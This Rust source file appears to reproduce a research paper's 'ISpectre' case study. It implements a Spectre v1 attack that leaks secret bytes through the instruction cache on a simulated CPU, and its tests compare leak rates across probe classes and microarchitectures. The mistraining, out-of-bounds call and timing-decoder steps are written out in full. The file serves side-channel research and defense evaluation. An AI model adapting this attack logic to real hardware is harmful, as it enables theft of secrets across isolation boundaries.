//! Case Study IV: the ISpectre transient-execution attack (paper §5.4,
//! Tables 3 and 4).
//!
//! Spectre v1 with an *instruction-cache* transmission channel: the
//! mistrained victim speculatively executes an indirect call whose target
//! line is selected by the secret byte; the line survives the squash in
//! the L1i, where an SMC probe conflicts (machine clear, slow) while every
//! other oracle line probes fast. Because the leak lives in the L1i,
//! data-cache-focused Spectre defenses never see it.
//!
//! The per-round decoder is self-calibrating: it compares each slot's
//! probe time to the round's median and accepts the outlier in the
//! direction the probe class predicts (slow for SMC-triggering classes,
//! fast for plain-timing classes). Probe classes with no usable timing
//! difference — like execute-reload, whose own probing warms every slot it
//! visits — never produce a confident outlier, reproducing the `#` cells
//! of Table 3.

use smack_uarch::{Addr, Machine, NoiseConfig, PerfEvent, ProbeKind, SmcBehavior, ThreadId};
use smack_victims::spectre::{SpectreVictim, ORACLE_SLOTS};

use crate::probe::Prober;
use crate::session::Session;

const ATTACKER: ThreadId = ThreadId::T0;

/// Branch-predictor training calls per attack round.
const TRAIN_ROUNDS: u64 = 6;

/// Attack rounds (votes) per secret byte.
const ROUNDS_PER_BYTE: u32 = 3;

/// Minimum outlier margin in cycles for a confident decode.
const MIN_MARGIN: i64 = 45;

/// ISpectre configuration.
#[derive(Copy, Clone, Debug)]
pub struct ISpectreConfig {
    /// Probe class used for the reload phase.
    pub kind: ProbeKind,
    /// Noise model.
    pub noise: NoiseConfig,
}

impl ISpectreConfig {
    /// Paper-like defaults for a probe class.
    pub fn new(kind: ProbeKind) -> ISpectreConfig {
        ISpectreConfig { kind, noise: NoiseConfig::realistic() }
    }
}

/// Result of an ISpectre run.
#[derive(Clone, Debug, PartialEq)]
pub struct ISpectreReport {
    /// Probe class used.
    pub kind: ProbeKind,
    /// Secret length in bytes.
    pub bytes: usize,
    /// Correctly recovered bytes.
    pub correct: usize,
    /// Recovery rate (0..1).
    pub success_rate: f64,
    /// Leakage rate in bytes per second at the nominal frequency.
    pub bytes_per_s: f64,
    /// SMC machine clears caused by the reload primitive's own probes.
    pub machine_clears: u64,
}

/// Table 3 cell classification.
#[derive(Copy, Clone, PartialEq, Eq, Debug)]
pub enum Applicability {
    /// ● — the attack works and runs on SMC machine clears.
    Smc,
    /// ◐ — the secret leaks without any SMC conflict (plain timing).
    LeakWithoutSmc,
    /// # — no reliable leak.
    NoLeak,
    /// × — the probe instruction does not exist on this part.
    Unsupported,
}

impl Applicability {
    /// The paper's Table 3 symbol.
    pub fn symbol(self) -> &'static str {
        match self {
            Applicability::Smc => "●",
            Applicability::LeakWithoutSmc => "◐",
            Applicability::NoLeak => "#",
            Applicability::Unsupported => "×",
        }
    }
}

/// Decode one probe round: find the slot that stands out by at least
/// the minimum margin (45 cycles).
///
/// `hot_is_high` says whether the secret-selected (L1i-resident) slot is
/// expected to probe slower (SMC classes) or faster (plain-timing classes).
///
/// The decoder is aware of the next-line instruction prefetcher: fetching
/// slot `s` streams slot `s+1` into L2, so for plain-timing probes the two
/// read similarly fast. When the top two scores are adjacent, the earlier
/// slot is the real one; the shadow slot is excluded from the ambiguity
/// check.
pub fn decode_round(timings: &[u64], hot_is_high: bool) -> Option<u8> {
    assert_eq!(timings.len(), ORACLE_SLOTS, "one timing per oracle slot");
    let mut sorted = timings.to_vec();
    sorted.sort_unstable();
    let median = sorted[sorted.len() / 2];
    let score = |t: u64| -> i64 {
        if hot_is_high {
            t as i64 - median as i64
        } else {
            median as i64 - t as i64
        }
    };
    let scores: Vec<i64> = timings.iter().map(|t| score(*t)).collect();
    let mut best = 0usize;
    for (i, s) in scores.iter().enumerate() {
        if *s > scores[best] {
            best = i;
        }
    }
    let half_margin = MIN_MARGIN / 2;
    // If the predecessor scores nearly as high, `best` is the prefetch
    // shadow of `best - 1`.
    if best > 0 && scores[best - 1] >= scores[best] - half_margin {
        best -= 1;
    }
    let best_score = scores[best];
    let runner_up = scores
        .iter()
        .enumerate()
        .filter(|(i, _)| *i != best && *i != best + 1)
        .map(|(_, s)| *s)
        .max()
        .unwrap_or(i64::MIN);
    if best_score >= MIN_MARGIN && best_score - runner_up >= half_margin {
        Some(best as u8)
    } else {
        None
    }
}

fn expected_hot_is_high(machine: &Machine, kind: ProbeKind) -> bool {
    machine.profile().smc.get(kind) == SmcBehavior::Triggers
}

/// Probe classes whose reload leaves the slot cached on the data side and
/// therefore needs a cleanup flush to keep cold slots cold. `clwb` never
/// evicts, so on parts where it does not machine-clear (no L1i
/// invalidation either) it also needs the flush.
fn needs_cleanup_flush(kind: ProbeKind, behavior: SmcBehavior) -> bool {
    matches!(kind, ProbeKind::Load | ProbeKind::Prefetch | ProbeKind::PrefetchNta)
        || (kind == ProbeKind::Clwb && behavior != SmcBehavior::Triggers)
}

/// Run the full ISpectre attack against `secret` inside a [`Session`]
/// (the machine must be in its cold start state — [`Session::renew`]
/// between attacks). The session's noise model must match `cfg.noise`.
///
/// # Errors
///
/// Returns a message for unsupported probe classes or simulator errors.
pub fn leak_secret_in(
    session: &mut Session<'_>,
    secret: &[u8],
    cfg: &ISpectreConfig,
) -> Result<ISpectreReport, String> {
    session.require_noise(cfg.noise)?;
    let m = session.machine();
    if m.profile().smc.get(cfg.kind) == SmcBehavior::Unsupported {
        return Err(format!("{} unsupported on {}", cfg.kind, m.profile().arch));
    }
    let victim = SpectreVictim::build();
    victim.stage(m, secret);
    let mut prober = Prober::new(ATTACKER);
    for s in 0..ORACLE_SLOTS {
        m.warm_tlb(ATTACKER, victim.oracle_slot(s as u8));
    }
    let hot_is_high = expected_hot_is_high(m, cfg.kind);
    let cleanup = needs_cleanup_flush(cfg.kind, m.profile().smc.get(cfg.kind));
    let err = |e: smack_uarch::StepError| e.to_string();
    // Only the reload primitive's own clears count: the cleanup flushes
    // can conflict too, but the Table 3 ●/◐ distinction is about whether
    // the *reload primitive* rides on SMC. (The gadget itself only loads,
    // and loads never clear.)
    let mut machine_clears = 0u64;
    let mut reload = |m: &mut Machine, line: Addr| -> Result<u64, String> {
        let before = m.counters(ATTACKER).read(PerfEvent::SimSmcClears);
        let cycles = prober.measure(m, cfg.kind, line).map_err(err)?.cycles;
        machine_clears += m.counters(ATTACKER).read(PerfEvent::SimSmcClears) - before;
        if cleanup {
            prober.flush_line(m, line).map_err(err)?;
        }
        Ok(cycles)
    };

    // Warm-up pass: bring every slot into the data-side steady state the
    // probe loop maintains.
    for s in 0..ORACLE_SLOTS {
        reload(m, victim.oracle_slot(s as u8))?;
    }

    let start = m.clock(ATTACKER);
    let mut correct = 0usize;
    for (i, truth) in secret.iter().enumerate() {
        let mut votes = [0u32; ORACLE_SLOTS];
        for _ in 0..ROUNDS_PER_BYTE {
            // Mistrain the bounds check with in-bounds calls.
            for t in 0..TRAIN_ROUNDS {
                m.call(ATTACKER, victim.entry, &[t % victim.array_len]).map_err(err)?;
            }
            // The training calls executed oracle slots the attacker chose
            // itself (`notsecret[i]`) — and the next-line prefetcher warmed
            // each one's successor. Scrub both back to the cold steady
            // state so only the speculative fetch stands out.
            let mut scrub: Vec<u64> = Vec::new();
            for t in 0..TRAIN_ROUNDS {
                let slot = t % victim.array_len;
                scrub.push(slot);
                scrub.push((slot + 1).min(ORACLE_SLOTS as u64 - 1));
            }
            scrub.sort_unstable();
            scrub.dedup();
            for slot in scrub {
                reload(m, victim.oracle_slot(slot as u8))?;
            }
            // Delay the bounds resolution, then fire the OOB call.
            m.flush_line(victim.bounds_ptr);
            m.flush_line(victim.bounds);
            m.call(ATTACKER, victim.entry, &[victim.secret_index(i)]).map_err(err)?;
            // Reload every oracle slot.
            let mut timings = Vec::with_capacity(ORACLE_SLOTS);
            for s in 0..ORACLE_SLOTS {
                timings.push(reload(m, victim.oracle_slot(s as u8))?);
            }
            if let Some(b) = decode_round(&timings, hot_is_high) {
                votes[b as usize] += 1;
            }
        }
        let (guess, count) =
            votes.iter().enumerate().max_by_key(|(_, c)| **c).expect("nonempty votes");
        if count > &0 && guess == *truth as usize {
            correct += 1;
        }
    }
    let cycles = m.clock(ATTACKER) - start;
    let seconds = m.profile().cycles_to_seconds(cycles);
    Ok(ISpectreReport {
        kind: cfg.kind,
        bytes: secret.len(),
        correct,
        success_rate: correct as f64 / secret.len().max(1) as f64,
        bytes_per_s: secret.len() as f64 / seconds,
        machine_clears,
    })
}

/// Empirically classify a `(microarchitecture, probe class)` cell of
/// Table 3 by running a short leak inside a [`Session`]: the machine must
/// be in its cold start state ([`Session::renew`] between probe classes)
/// and the session's noise must be the [`ISpectreConfig::new`] default.
///
/// # Errors
///
/// Returns a message on simulator errors other than unsupported
/// instructions (which classify as ×).
pub fn applicability_in(
    session: &mut Session<'_>,
    kind: ProbeKind,
) -> Result<Applicability, String> {
    if session.machine().profile().smc.get(kind) == SmcBehavior::Unsupported {
        return Ok(Applicability::Unsupported);
    }
    let cfg = ISpectreConfig::new(kind);
    classify(leak_secret_in(session, &applicability_secret(), &cfg)?)
}

fn applicability_secret() -> Vec<u8> {
    (0..8u8).map(|i| i.wrapping_mul(37).wrapping_add(11)).collect()
}

fn classify(report: ISpectreReport) -> Result<Applicability, String> {
    if report.success_rate < 0.5 {
        return Ok(Applicability::NoLeak);
    }
    if report.machine_clears > 0 {
        Ok(Applicability::Smc)
    } else {
        Ok(Applicability::LeakWithoutSmc)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::session::{Scenario, Sessions};
    use smack_uarch::MicroArch;

    fn leak(
        arch: MicroArch,
        secret: &[u8],
        cfg: &ISpectreConfig,
        seed: u64,
    ) -> Result<ISpectreReport, String> {
        let sessions = Sessions::new();
        let scenario = Scenario::new(arch).with_noise(cfg.noise).with_seed(seed);
        let mut session = sessions.session(&scenario);
        leak_secret_in(&mut session, secret, cfg)
    }

    fn cell(arch: MicroArch, kind: ProbeKind, seed: u64) -> Result<Applicability, String> {
        let sessions = Sessions::new();
        let scenario = Scenario::new(arch).with_noise(NoiseConfig::realistic()).with_seed(seed);
        let mut session = sessions.session(&scenario);
        applicability_in(&mut session, kind)
    }

    #[test]
    fn decode_round_finds_high_outlier() {
        let mut t = vec![100u64; ORACLE_SLOTS];
        t[0xA5] = 400;
        assert_eq!(decode_round(&t, true), Some(0xA5));
        // Low outlier with inverted polarity.
        let mut t = vec![250u64; ORACLE_SLOTS];
        t[0x17] = 40;
        assert_eq!(decode_round(&t, false), Some(0x17));
    }

    #[test]
    fn decode_round_rejects_flat_and_ambiguous() {
        let t = vec![100u64; ORACLE_SLOTS];
        assert_eq!(decode_round(&t, true), None);
        let mut t = vec![100u64; ORACLE_SLOTS];
        t[3] = 400;
        t[9] = 390; // two similar outliers: ambiguous
        assert_eq!(decode_round(&t, true), None);
    }

    #[test]
    fn store_ispectre_leaks_on_cascade_lake() {
        let secret = b"SMaCk!";
        let cfg = ISpectreConfig::new(ProbeKind::Store);
        let r = leak(MicroArch::CascadeLake, secret, &cfg, 5).expect("attack runs");
        assert!(r.success_rate >= 0.8, "success {}", r.success_rate);
        assert!(r.machine_clears > 0, "store attack rides on SMC clears");
        assert!(r.bytes_per_s > 0.0);
    }

    #[test]
    fn load_leaks_without_smc() {
        let secret = b"ab";
        let cfg = ISpectreConfig::new(ProbeKind::Load);
        let r = leak(MicroArch::CascadeLake, secret, &cfg, 6).expect("attack runs");
        assert!(r.success_rate >= 0.5, "success {}", r.success_rate);
        assert_eq!(r.machine_clears, 0, "plain loads never machine-clear");
    }

    #[test]
    fn execute_reload_does_not_leak() {
        let secret = b"zz";
        let cfg = ISpectreConfig::new(ProbeKind::Execute);
        let r = leak(MicroArch::CascadeLake, secret, &cfg, 7).expect("attack runs");
        assert!(r.success_rate < 0.5, "execute must not leak, got {}", r.success_rate);
    }

    #[test]
    fn applicability_matches_table3_spot_cells() {
        // Store triggers SMC everywhere.
        assert_eq!(cell(MicroArch::CascadeLake, ProbeKind::Store, 1).unwrap(), Applicability::Smc);
        // clwb does not exist on Broadwell.
        assert_eq!(
            cell(MicroArch::Broadwell, ProbeKind::Clwb, 2).unwrap(),
            Applicability::Unsupported
        );
        // Flush on EPYC leaks without SMC (the AMD-SB-7024 machine).
        assert_eq!(
            cell(MicroArch::AmdEpyc7232P, ProbeKind::Flush, 3).unwrap(),
            Applicability::LeakWithoutSmc
        );
        // Execute never leaks.
        assert_eq!(
            cell(MicroArch::CascadeLake, ProbeKind::Execute, 4).unwrap(),
            Applicability::NoLeak
        );
    }
}
